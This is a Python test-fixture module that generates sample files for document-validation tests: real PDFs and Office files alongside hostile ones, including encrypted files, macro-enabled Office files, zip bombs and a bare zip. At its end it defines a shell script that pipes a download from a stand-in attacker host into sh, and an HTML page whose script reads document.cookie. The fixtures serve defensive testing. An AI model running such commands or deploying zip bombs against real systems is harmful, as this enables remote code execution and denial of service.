"""Files for evidence tests, made here: real documents, and hostile ones that lie about what they are."""

import io
import struct
import zipfile
import zlib

from pypdf import PdfWriter


def pdf(pages: int = 1, padding: int = 0) -> bytes:
    """A real PDF; `padding` bytes of an uncompressed stream make it as large as a test needs."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if padding:
        writer.add_attachment("padding.bin", b"\0" * padding)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_of_size(size: int) -> bytes:
    """A real PDF of exactly `size` bytes (at least about 1 KB)."""
    padding = size - (len(pdf(padding=1000)) - 1000)
    for _ in range(5):  # the offsets in the cross-reference table may take a digit more or less
        data = pdf(padding=padding)
        if len(data) == size:
            return data
        padding += size - len(data)
    raise ValueError(f"could not make a PDF of {size} bytes")


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("correct horse battery staple")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zip(entries: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return out.getvalue()


def docx() -> bytes:
    return _zip(
        [("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'), ("word/document.xml", b'<?xml version="1.0"?><w:document/>')]
    )


def macro_enabled(kind: str = "word") -> bytes:
    """A docm, xlsm or pptm: Office XML with a VBA project and the macro-enabled content type."""
    part, content_type = {
        "word": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "excel": ("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "powerpoint": ("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
    }[kind]
    types = f'<?xml version="1.0"?><Types><Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    return _zip(
        [
            ("[Content_Types].xml", types.encode()),
            (part, b'<?xml version="1.0"?><doc/>'),
            (part.split("/")[0] + "/vbaProject.bin", _OLE_MAGIC + b"\0" * 504),
        ]
    )


def macro_content_type_only() -> bytes:
    """A macro-enabled Word document that has lost its VBA project part but still declares itself one."""
    types = b'<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    return _zip([("[Content_Types].xml", types), ("word/document.xml", b'<?xml version="1.0"?><w:document/>')])


_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "Gender pay gap"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def odt(manifest: bytes = b"<manifest:manifest/>") -> bytes:
    return _zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b"<office:document-content/>"),
            ("META-INF/manifest.xml", manifest),
        ],
        stored_first=True,
    )


def encrypted_odt() -> bytes:
    return odt(
        b'<manifest:manifest><manifest:file-entry manifest:full-path="content.xml">'
        b'<manifest:encryption-data manifest:checksum-type="SHA1/1K"/></manifest:file-entry></manifest:manifest>'
    )


def encrypted_docx() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = io.BytesIO(xlsx())  # any real OOXML file
    out = io.BytesIO()
    OOXMLFile(plain).encrypt("correct horse battery staple", out)
    return out.getvalue()


def plain_zip() -> bytes:
    return _zip([("readme.txt", b"not a document")])


def zip_bomb_by_size(expanded: int = 600 * 1024 * 1024) -> bytes:
    """A DOCX whose one part opens out to `expanded` bytes of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        part_info = zipfile.ZipInfo("word/document.xml")
        part_info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(part_info, "w", force_zip64=True) as part:
            chunk = b"\0" * (1 << 20)
            for _ in range(expanded // len(chunk)):
                part.write(chunk)
    return out.getvalue()


def zip_bomb_by_count(entries: int = 10_001) -> bytes:
    return _zip(
        [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]
        + [(f"word/media/{n}.xml", b"") for n in range(entries)]
    )


def png() -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def csv() -> bytes:
    return "Year,Median gap %\n2025,4.2\n2026,3.1\n".encode()


SCRIPT = b"#!/bin/sh\ncurl https://evil.example/payload | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
